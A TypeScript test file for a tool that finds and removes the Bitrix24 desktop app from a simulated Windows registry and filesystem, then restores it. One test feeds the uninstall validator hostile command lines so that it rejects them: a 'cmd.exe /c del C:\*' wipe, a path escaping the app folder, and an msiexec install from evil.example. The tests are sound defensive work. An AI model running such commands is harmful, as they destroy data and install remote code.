import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';

import { describe, expect, it } from 'vitest';

import { parseRegistry } from '../../src/desktop/parse/registry.ts';
import { splitCommandLine } from '../../src/desktop/parse/command-line.ts';
import { planRemoval } from '../../src/desktop/plan.ts';
import { scan } from '../../src/desktop/scan.ts';
import { uninstallArgv } from '../../src/desktop/uninstall-runs.ts';
import { imageComputer } from './image-computer.ts';
import { put } from './linux-computer.ts';
import { emptyFolder, nothing, removeOn, restoreOn } from './support.ts';

const current = String.raw`Software\Microsoft\Windows\CurrentVersion`;
const user = 'HKEY_CURRENT_USER';
const machine = 'HKEY_LOCAL_MACHINE';
const run = [user, current, 'Run'].join('\\');
const approved = [user, current, 'Explorer', 'StartupApproved', 'Run'].join('\\');
const uninstall = [machine, String.raw`Software\WOW6432Node\Microsoft\Windows\CurrentVersion\Uninstall\Bitrix24`].join(
  '\\',
);
const services = [machine, String.raw`SYSTEM\CurrentControlSet\Services`].join('\\');
const links = [user, String.raw`Software\Classes\bx`].join('\\');
const app = String.raw`C:\Program Files (x86)\Bitrix24`;
const escaped = (text: string): string => text.replaceAll('\\', '\\\\');
const drivePath = String.raw`C:\Users\Anna\Work\Drive`;

function registry(): Map<string, string> {
  return new Map([
    [
      run,
      [`"Bitrix24"="\\"${escaped(app)}\\\\Bitrix24.exe\\" --hidden"`, String.raw`"OneDrive"="C:\\OneDrive.exe"`].join(
        '\r\n',
      ),
    ],
    [approved, '"Bitrix24"=hex:02,00,00,00,00,00,\\\r\n  00,00,00,00,00,00\r\n"OneDrive"=hex:02,00'],
    [
      uninstall,
      [
        '"DisplayName"="Bitrix24 for Windows"',
        `"InstallLocation"="${escaped(app)}"`,
        `"UninstallString"="${escaped(app)}\\\\uninstall.exe"`,
        '"Publisher"="Bitrix"',
      ].join('\r\n'),
    ],
    [
      [machine, current, String.raw`Uninstall\Bitrix24 Recorder`].join('\\'),
      '"DisplayName"="Recorder for Bitrix24 calls"',
    ],
    [[services, 'BDiskUpdate'].join('\\'), `"ImagePath"="\\"${escaped(app)}\\\\BDisk.exe\\" --update"`],
    [[services, 'Spooler'].join('\\'), String.raw`"ImagePath"="C:\\Windows\\spoolsv.exe"`],
    [links, '@="URL:bx"\r\n"URL Protocol"=""'],
    [`${links}\\shell\\open\\command`, `@="\\"${escaped(app)}\\\\Bitrix24.exe\\" \\"%1\\""`],
    [
      [machine, current, String.raw`Explorer\SyncRootManager\Bitrix24!S-1-5-21!1`].join('\\'),
      `"IconResource"="${escaped(app)}\\\\BDisk.exe,0"`,
    ],
    [
      [machine, current, String.raw`Explorer\SyncRootManager\Bitrix24!S-1-5-21!1\UserSyncRoots`].join('\\'),
      `"S-1-5-21"="${escaped(drivePath)}"`,
    ],
  ]);
}

/** A Windows computer with the app, a drive in a chosen folder, and programs of others. */
function windows(options: { readonly ran?: string[][]; readonly keys?: Map<string, string> } = {}) {
  const image = emptyFolder();
  const keys = options.keys ?? registry();
  for (const name of ['Bitrix24.exe', 'BDisk.exe', 'uninstall.exe'])
    put(image, `/C/Program Files (x86)/Bitrix24/${name}`, name);
  put(image, '/C/Users/Anna/AppData/Roaming/Bitrix/Desktop/3.0/cef_cache/Cache/data_0', 'cache');
  put(image, '/C/Users/Anna/AppData/Local/Bitrix24/User Data/Crashpad/x', 'x');
  put(image, '/C/Users/Anna/AppData/Local/PENA Agency/agent.exe', 'x');
  put(image, '/C/Users/Anna/Desktop/Bitrix24.lnk', Buffer.from(`L\0${app}\\Bitrix24.exe\0`, 'utf16le'));
  put(image, '/C/Users/Anna/Desktop/Notes.lnk', Buffer.from('C:\\notes.exe', 'utf16le'));
  put(image, '/C/Users/Anna/Work/Drive/a.txt', 'mine');
  put(image, '/C/Users/Boris/AppData/Roaming/Bitrix/Desktop/3.0/cef_cache/x', 'of somebody else');
  const computer = imageComputer('windows', {
    image,
    home: String.raw`C:\Users\Anna`,
    folders: {
      APPDATA: String.raw`C:\Users\Anna\AppData\Roaming`,
      LOCALAPPDATA: String.raw`C:\Users\Anna\AppData\Local`,
      'ProgramFiles(x86)': String.raw`C:\Program Files (x86)`,
      ProgramFiles: String.raw`C:\Program Files`,
    },
    registry: keys,
    ...(options.ran === undefined ? {} : { ran: options.ran }),
    onRun: ([program = '', verb, key = '', flag, value = '']) => {
      if (program.endsWith('uninstall.exe')) {
        rmSync(join(image, '/C/Program Files (x86)/Bitrix24/Bitrix24.exe'));
        keys.delete(uninstall);
      }
      if (program !== 'reg.exe' || verb !== 'delete') return;
      if (flag === '/v')
        keys.set(
          key,
          (keys.get(key) ?? '')
            .split('\r\n"')
            .filter((one) => !one.includes(`${value}"=`))
            .map((one, at) => (at === 0 && !one.startsWith('"') ? `"${one}` : one))
            .join('\r\n"'),
        );
      else for (const own of keys.keys()) if (own === key || own.startsWith(`${key}\\`)) keys.delete(own);
    },
  });
  return { image, computer, keys };
}

describe('the app on Windows', () => {
  it('is found by where values of the registry lead, and the drive by what Explorer was told', async () => {
    const { computer } = windows();
    const { traces, drive } = await scan(computer);
    expect(traces.map(({ id, leftAlone = '' }) => `${id} ${leftAlone}`.trim()).toSorted()).toEqual(
      [
        app,
        String.raw`C:\Users\Anna\AppData\Roaming\Bitrix\Desktop`,
        String.raw`C:\Users\Anna\AppData\Local\Bitrix24\User Data`,
        String.raw`C:\Users\Anna\AppData\Local\PENA Agency stranger`,
        String.raw`C:\Users\Anna\Desktop\Bitrix24.lnk`,
        `registry:${run}:Bitrix24`,
        `registry:${approved}:Bitrix24`,
        `registry:${uninstall}`,
        `registry:${services}\\BDiskUpdate`,
        `registry:${links}`,
        `registry:${[machine, current, String.raw`Explorer\SyncRootManager\Bitrix24!S-1-5-21!1`].join('\\')}`,
      ].toSorted(),
    );
    expect(drive.map(({ path, sure }) => [path, sure])).toEqual([[drivePath, 'certain']]);
  });

  it('is taken off by its own uninstaller, then its leftovers; others’ values stay and are never written back', async () => {
    const ran: string[][] = [];
    const { image, computer, keys } = windows({ ran });
    const plan = planRemoval(await scan(computer), nothing);
    const folder = join(emptyFolder(), 'run');
    const { outcomes } = await removeOn(computer, folder, plan);
    expect(outcomes.filter(({ end }) => end === 'failed' || end === 'left')).toEqual([]);
    expect(ran[0]).toEqual([`${app}\\uninstall.exe`, '/S']);
    expect(existsSync(join(image, '/C/Program Files (x86)/Bitrix24'))).toBe(false);
    expect(readFileSync(join(image, '/C/Users/Anna/Work/Drive/a.txt'), 'utf8')).toBe('mine');
    expect(keys.get(run)).toContain('OneDrive');
    expect(keys.get(run)).not.toContain('Bitrix24');
    expect(keys.has(links)).toBe(false);
    expect([...keys.keys()].filter((key) => key.startsWith(services))).toEqual([`${services}\\Spooler`]);

    await restoreOn(computer, folder);
    const imports = ran.filter(([, verb]) => verb === 'import').map(([, , file = '']) => readFileSync(file));
    const back = imports.flatMap(parseRegistry);
    expect(back.find(({ key }) => key === run)?.values).toEqual([
      { name: 'Bitrix24', data: `"${app}\\Bitrix24.exe" --hidden` },
    ]);
    expect(back.map(({ key }) => key)).toContain(`${links}\\shell\\open\\command`);
    expect(imports.every((bytes) => !bytes.toString('utf16le').includes('OneDrive'))).toBe(true);
    expect(existsSync(join(image, '/C/Users/Anna/Desktop/Bitrix24.lnk'))).toBe(true);
  });

  it.each([
    ['a program elsewhere', { plain: String.raw`C:\Windows\System32\cmd.exe /c del C:\*` }, undefined],
    ['a way out of the folder', { plain: `"${app}\\..\\Other\\un.exe"` }, undefined],
    ['no program at all', { plain: 'rundll32 something' }, undefined],
    [
      'an installer with its product',
      { plain: 'MsiExec.exe /I{12345678-1234-1234-1234-1234567890AB}' },
      ['msiexec.exe', '/x', '{12345678-1234-1234-1234-1234567890AB}', '/qn', '/norestart'],
    ],
    ['an installer with something else', { plain: 'msiexec.exe /i http://evil.example/x.msi' }, undefined],
    ['its own quiet line', { quiet: `"${app}\\un.exe" /quiet` }, [`${app}\\un.exe`, '/quiet']],
  ] as const)('runs only what lies in the app’s folder or is Windows’ installer: %s', (_, lines, argv) => {
    expect(uninstallArgv({ key: uninstall, ...lines }, [app])).toEqual(argv);
  });

  it('reads command lines as Windows does', () => {
    expect(splitCommandLine(String.raw`"C:\a b\c.exe" /x "d\\" e\"f ""`)).toEqual([
      'C:\\a b\\c.exe',
      '/x',
      'd\\',
      'e"f',
      '',
    ]);
  });
});
